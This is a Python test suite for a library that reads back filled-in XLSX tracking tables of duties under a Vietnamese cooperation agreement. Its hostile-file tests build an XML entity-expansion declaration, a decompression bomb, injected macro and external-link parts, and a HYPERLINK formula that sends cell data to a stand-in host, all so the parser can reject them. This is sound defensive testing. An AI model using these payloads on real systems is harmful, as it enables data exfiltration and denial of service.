"""A filled-in tracking table comes back: what it proposes, what it cannot mean, and hostile files."""

import io
import subprocess
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import attrs
import pytest
from hypothesis import given
from openpyxl import Workbook, load_workbook

from coordlib import Agreement, Article, Duty, Every, Ledger, OnEvent, Party, assess
from coordlib.testing import strategy_of
from coordlib.tracking import Done, Entry, Evidence, Happened, Progress, Proposals, Tracking, proposals, save_xlsx
from tests.samples import tries

ON = date(2026, 7, 1)
AGREEMENT = Agreement(
    "Quy chế",
    (Party("police", "Công an tỉnh"), Party("phone", "Viettel")),
    (
        Article(
            "Một",
            text="Hai bên gửi số liệu.",
            duties=(
                Duty("both", ("police", "phone"), when=Every(months=3)),
                Duty("one", "phone", when=Every(months=6)),
            ),
        ),
        Article("Hai", text="Trả lời ngay.", duties=(Duty("reply", "phone", "police", OnEvent("request")),)),
    ),
    effective=date(2026, 1, 1),
    id="a",
)
LEDGER = Ledger(AGREEMENT).append(
    Entry(Done("both", date(2026, 3, 31)), date(2026, 3, 20), by="police", evidence=Evidence("=1/BC")),
    Entry(Happened("request", "Mật (ví dụ)"), date(2026, 5, 4), restricted=True),
)
DAY, SHOWN, MARK = 5, 6, 9


def tracking(ledger: Ledger = LEDGER) -> Tracking:
    return Tracking(assess(AGREEMENT, ledger, ON))


def filled(path: Path, fill: Callable[[Any], None], table: Tracking | None = None) -> Path:
    """Export the table, and let somebody work on the sheet."""
    save_xlsx(table or tracking(), path)
    book = load_workbook(path)
    fill(book.active)
    book.save(path)
    return path


def read_back(path: Path, ledger: Ledger = LEDGER, recorded: date = ON) -> Proposals:
    return proposals(path, tracking(ledger), recorded)


def row_of(sheet: Any, lead: str, deadline: date) -> int:  # noqa: ANN401 - openpyxl has no types
    """Return the row of a due."""
    days = {row: cells[0] for row, cells in enumerate(sheet.iter_rows(values_only=True), start=1) if cells[3] == lead}
    return next(row for row, day in days.items() if isinstance(day, datetime) and day.date() == deadline)


def codes(found: Proposals) -> list[str]:
    return [one.code for one in found.findings]


class TestWhatIsProposed:
    def test_a_row_that_was_filled_in_is_an_entry(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            row = row_of(sheet, "Viettel", date(2026, 6, 30))
            sheet.cell(row, DAY).value = datetime(2026, 6, 25)  # noqa: DTZ001 - XLSX knows no zone
            sheet.cell(row, SHOWN).value = "45/BC-VT ngày 24/6/2026"

        found = read_back(filled(tmp_path / "a.xlsx", fill))
        assert codes(found) == []
        evidence = (Evidence("45/BC-VT", date(2026, 6, 24)),)
        assert found.entries == (Entry(Done("one", "2026-01-01"), date(2026, 6, 25), (), ON, evidence),)
        assert "dòng" in f"{found:vi}"
        assert "thực hiện ngày 25/6/2026, văn bản: 45/BC-VT" in f"{found:vi}"

    def test_nothing_is_recorded_until_it_is_appended(self, tmp_path: Path) -> None:
        ledger = Ledger.open(tmp_path / "ledger.jsonl", AGREEMENT)
        path = filled(tmp_path / "a.xlsx", lambda sheet: self.fill_all(sheet, "30/6/2026"), tracking(ledger))
        before = len(ledger.entries)
        found = read_back(path, ledger)
        assert len(Ledger.open(tmp_path / "ledger.jsonl", AGREEMENT).entries) == before
        assert found.entries
        after = ledger.append(*found.entries)
        assert read_back(path, after).entries == ()
        assert codes(read_back(path, after)) == codes(found)

    @staticmethod
    def fill_all(sheet: Any, day: str) -> None:  # noqa: ANN401
        for row in range(2, sheet.max_row + 1):
            if not sheet.cell(row, DAY).value:
                sheet.cell(row, DAY).value = day

    def test_a_part_of_what_several_owe_is_that_party_s_own(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            sheet.cell(row_of(sheet, "Viettel", date(2026, 3, 31)), DAY).value = "05/4/2026"

        (entry,) = read_back(filled(tmp_path / "a.xlsx", fill)).entries
        assert (entry.what, entry.by) == (Done("both", "2026-01-01"), ("phone",))

    def test_a_row_that_nobody_filled_in_proposes_nothing(self, tmp_path: Path) -> None:
        assert read_back(filled(tmp_path / "a.xlsx", lambda _: None)) == Proposals()

    def test_rows_may_be_sorted_and_filtered_and_other_columns_noted_in(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            rows = list(sheet.iter_rows(min_row=2, values_only=True))
            for number, cells in enumerate(reversed(rows), start=2):
                for column, value in enumerate(cells, start=1):
                    sheet.cell(number, column).value = value
                sheet.cell(number, 7).value = "đã nhắc"

        assert read_back(filled(tmp_path / "a.xlsx", fill)) == Proposals()

    @tries(6, 20)
    @given(strategy_of(Progress))
    def test_a_table_of_any_agreement_comes_back_with_nothing_to_propose(self, progress: Progress) -> None:
        with TemporaryDirectory() as folder:
            table = Tracking(progress)
            assert proposals(save_xlsx(table, Path(folder, "a.xlsx")), table, progress.on) == Proposals()

    @pytest.mark.office
    def test_libreoffice_may_save_it(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            sheet.cell(row_of(sheet, "Viettel", date(2026, 6, 30)), DAY).value = datetime(2026, 6, 25)  # noqa: DTZ001

        filled(tmp_path / "a.xlsx", fill)
        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
        command = ["soffice", profile, "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir"]
        subprocess.run([*command, str(tmp_path / "saved"), str(tmp_path / "a.xlsx")], check=True, capture_output=True)
        found = read_back(tmp_path / "saved" / "a.xlsx")
        assert (len(found.entries), codes(found)) == (1, [])

    def test_a_reference_that_is_restricted_is_nowhere_in_the_file(self, tmp_path: Path) -> None:
        save_xlsx(tracking(), tmp_path / "a.xlsx")
        with zipfile.ZipFile(tmp_path / "a.xlsx") as package:
            assert not any("Mật (ví dụ)".encode() in package.read(one) for one in package.namelist())

    def test_the_column_of_marks_is_hidden(self, tmp_path: Path) -> None:
        save_xlsx(tracking(), tmp_path / "a.xlsx")
        assert load_workbook(tmp_path / "a.xlsx").active.column_dimensions["I"].hidden


class TestWhatARowCannotMean:
    @pytest.mark.parametrize("day", ["hôm qua", "31/02/2026", 46000, "02/7/2026", None])
    def test_a_day_that_is_none_or_to_come(self, day: object, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            row = row_of(sheet, "Viettel", date(2026, 6, 30))
            sheet.cell(row, DAY).value = day
            sheet.cell(row, SHOWN).value = "45/BC"

        found = read_back(filled(tmp_path / "a.xlsx", fill))
        assert (found.entries, codes(found)) == ((), ["SHT006"])
        assert found.findings[0].position.line > 1

    def test_what_is_recorded_already_is_corrected_in_the_ledger_only(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            sheet.cell(row_of(sheet, "Công an tỉnh", date(2026, 3, 31)), DAY).value = "19/3/2026"

        assert codes(read_back(filled(tmp_path / "a.xlsx", fill))) == ["SHT007"]

    def test_a_row_of_another_agreement(self, tmp_path: Path) -> None:
        other = attrs.evolve(AGREEMENT, id="b")
        path = filled(tmp_path / "a.xlsx", lambda _: None, Tracking(assess(other, Ledger(other), ON)))
        assert set(codes(read_back(path))) == {"SHT004"}

    def test_a_row_twice(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            for column in range(1, MARK + 1):
                sheet.cell(3, column).value = sheet.cell(2, column).value

        assert codes(read_back(filled(tmp_path / "a.xlsx", fill))) == ["SHT005"]

    def test_what_the_ledger_refuses_says_why(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            sheet.cell(row_of(sheet, "Viettel", date(2026, 6, 30)), DAY).value = "05/4/1850"

        found = read_back(filled(tmp_path / "a.xlsx", fill))
        assert codes(found) == ["LED002"]
        assert found.findings[0].position.file == str(tmp_path / "a.xlsx")

    def test_text_that_cannot_be_printed(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            row = row_of(sheet, "Viettel", date(2026, 6, 30))
            sheet.cell(row, DAY).value = "05/4/2026"
            sheet.cell(row, SHOWN).value = "45\u202e/BC"

        assert codes(read_back(filled(tmp_path / "a.xlsx", fill))) == ["SHT008"]


def rewritten(path: Path, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> Path:
    """Pack the parts of a file anew, each changed, with more of them."""
    stream = io.BytesIO()
    with zipfile.ZipFile(path) as package, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as anew:
        for name in package.namelist():
            anew.writestr(name, change(name, package.read(name)))
        for name, part in (more or {}).items():
            anew.writestr(name, part)
    path.write_bytes(stream.getvalue())
    return path


def same(_: str, part: bytes) -> bytes:
    return part


def declaring(name: str, part: bytes) -> bytes:
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return part.replace(b"<worksheet", entities + b"<worksheet", 1) if "sheet1" in name else part


def in_utf_16(name: str, part: bytes) -> bytes:
    return part.decode().replace("UTF-8", "UTF-16").encode("utf-16") if "sheet1" in name else part


def torn(name: str, part: bytes) -> bytes:
    return part.replace(b"<sheets", b"<sheets a", 1) if name == "xl/workbook.xml" else part


def cut(name: str, part: bytes) -> bytes:
    return part[: len(part) // 2] if "sheet1" in name else part


def without_sheets(name: str, part: bytes) -> bytes:
    return b"<x/>" if "workbook.xml" in name else part


def far_away(name: str, part: bytes) -> bytes:
    return part.replace(b'r="2"', b'r="1048576"', 1) if "sheet1" in name else part


class TestHostileFiles:
    @pytest.fixture
    def table(self, tmp_path: Path) -> Path:
        return save_xlsx(tracking(), tmp_path / "a.xlsx")

    @pytest.mark.parametrize("change", [declaring, in_utf_16, cut, torn, far_away])
    def test_a_part_that_is_not_what_it_should_be(self, change: Callable[[str, bytes], bytes], table: Path) -> None:
        found = read_back(rewritten(table, change))
        assert (found.entries, codes(found)) == ((), ["SHT001"])

    def test_a_book_without_sheets(self, table: Path) -> None:
        assert codes(read_back(rewritten(table, without_sheets))) == ["SHT003"]

    def test_a_bomb_is_not_unpacked(self, table: Path) -> None:
        rewritten(table, same, {"xl/media/a.xml": b"0" * 80_000_000})
        assert table.stat().st_size < 1_000_000
        assert codes(read_back(table)) == ["SHT001"]

    def test_thousands_of_parts_are_not_looked_at(self, table: Path) -> None:
        assert codes(read_back(rewritten(table, same, {f"xl/{number}.xml": b"" for number in range(300)}))) == [
            "SHT001"
        ]

    @pytest.mark.parametrize("content", [b"", b"PK", b"%PDF-1.7", "Thời hạn;Nội dung".encode()])
    def test_what_is_no_spreadsheet(self, content: bytes, table: Path) -> None:
        table.write_bytes(content)
        assert codes(read_back(table)) == ["SHT001"]

    @pytest.mark.parametrize("name", ["xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/embeddings/a.bin"])
    def test_macros_links_and_what_is_embedded(self, name: str, table: Path) -> None:
        assert codes(read_back(rewritten(table, same, {name: b"<a/>"}))) == ["SHT003"]

    def test_a_formula_anywhere(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            sheet.cell(2, SHOWN).value = '=HYPERLINK("http://example.invalid/?"&A1)'

        found = read_back(filled(tmp_path / "a.xlsx", fill))
        assert codes(found) == ["SHT002"]
        assert found.findings[0].position.line == 2

    def test_other_sheets(self, tmp_path: Path) -> None:
        found = read_back(filled(tmp_path / "a.xlsx", lambda sheet: sheet.parent.create_sheet("Khác")))
        assert codes(found) == ["SHT003"]

    def test_a_sheet_of_another_head(self, tmp_path: Path) -> None:
        def fill(sheet: Any) -> None:  # noqa: ANN401
            sheet.cell(1, 2).value = "Việc"

        assert codes(read_back(filled(tmp_path / "a.xlsx", fill))) == ["SHT003"]
        book = Workbook()
        book.active.title = "Biểu theo dõi"
        book.save(tmp_path / "b.xlsx")
        assert codes(read_back(tmp_path / "b.xlsx")) == ["SHT003"]

    def test_a_file_that_is_not_there_or_is_a_folder(self, tmp_path: Path) -> None:
        assert codes(read_back(tmp_path)) == ["FIL001"]
        assert codes(read_back(tmp_path / "not-there.xlsx")) == ["FIL001"]
